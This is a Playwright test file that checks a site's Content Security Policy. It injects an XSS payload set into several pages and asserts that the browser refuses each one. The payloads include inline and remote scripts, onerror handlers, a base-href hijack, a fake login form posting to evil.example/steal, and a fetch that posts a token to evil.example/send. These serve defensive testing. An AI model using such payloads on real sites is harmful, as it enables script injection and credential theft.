import type { Page } from '@playwright/test';
import { logIn } from '../support/log-in.ts';
import { expect, test } from '../support/reading-test.ts';

// Every request to the outside is counted.
test.use({ outside: 'stubbed' });

/** As if a hole had let this into a page: what would run sets `hacked` on the window. */
const INJECTED = `
  <script>window.hacked = 'inline script'</script>
  <script src="https://evil.example/remote.js"></script>
  <script src="data:text/javascript,window.hacked='data script'"></script>
  <script type="module">window.hacked = 'inline module'</script>
  <img src="data:," onerror="window.hacked = 'handler'" alt="">
  <svg onload="window.hacked = 'svg'"></svg>
  <iframe srcdoc="<script>parent.hacked = 'frame'</script>" title="own"></iframe>
  <iframe src="https://evil.example/frame" title="remote"></iframe>
  <object data="https://evil.example/plugin"></object>
  <link rel="stylesheet" href="https://evil.example/style.css">
  <style>main { display: none }</style>
  <p style="position: fixed; inset: 0">Log in again</p>
  <base href="https://evil.example/">
  <form action="https://evil.example/steal"><button id="evil-form">Log in again</button></form>
  <a id="evil-link" href="javascript:window.hacked = 'address'">Log in again</a>
`;

/** What a script would do that had come in all the same. */
async function attackFromInside(page: Page): Promise<void> {
  await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.hacked = "added script"';
    document.body.append(script);
    const image = document.createElement('div');
    image.innerHTML = '<img src="data:," onerror="window.hacked = 1" alt="">';
    document.body.append(image);
    // A timer evaluates a string that it gets in place of a function, as `eval` does.
    Reflect.apply(setTimeout, window, ['window.hacked = "timer"', 0]);
    await fetch('https://evil.example/send', { method: 'POST', body: 'token' }).catch(() => undefined);
    document.querySelector<HTMLElement>('#evil-link')?.click();
    document.querySelector<HTMLElement>('#evil-form')?.click();
  });
}

/** What the browser has refused, by the rule that it names. */
const EXPECTED = [
  'base-uri',
  'connect-src',
  'form-action',
  'frame-src',
  'object-src',
  'script-src',
  'script-src-attr',
  'script-src-elem',
  'style-src-attr',
  'style-src-elem',
];

/** One of each kind: what the policy of every page is, is read from its HTML (tests/build/security.test.ts). */
const PAGES = ['/', '/contact', '/news/900', '/login', '/nowhere', '/dashboard/news'];

test('what is injected into a page is blocked: scripts, handlers, frames, styles, forms, calls', async ({
  page,
  site,
}) => {
  site.allowProblems(/Content Security Policy|404/);
  await logIn(page, site);
  await page.addInitScript(() => {
    const refused: string[] = [];
    Reflect.set(window, 'refused', refused);
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      refused.push(effectiveDirective);
    });
  });
  await page.route(
    (url) => url.origin === site.origin,
    async (route) => {
      if (route.request().resourceType() !== 'document') return route.fallback();
      const response = await route.fetch();
      await route.fulfill({ response, body: `${await response.text()}${INJECTED}` });
    },
  );
  for (const path of PAGES) {
    await page.goto(path);
    await attackFromInside(page);
    const refused = () => page.evaluate((): string[] => Reflect.get(window, 'refused'));
    await expect
      .poll(async () => [...new Set(await refused())].toSorted(), { message: path, intervals: [50] })
      .toEqual(EXPECTED);
    // Asked of the page itself: a form that was refused leaves the driver waiting for where it would have led.
    const left = await page.evaluate(() => ({
      hacked: Reflect.get(window, 'hacked'),
      path: location.pathname,
      isThere: document.querySelector('main')?.checkVisibility(),
    }));
    expect.soft(left, path).toEqual({ hacked: undefined, path, isThere: true });
  }
  expect(site.outside).toEqual([]);
});
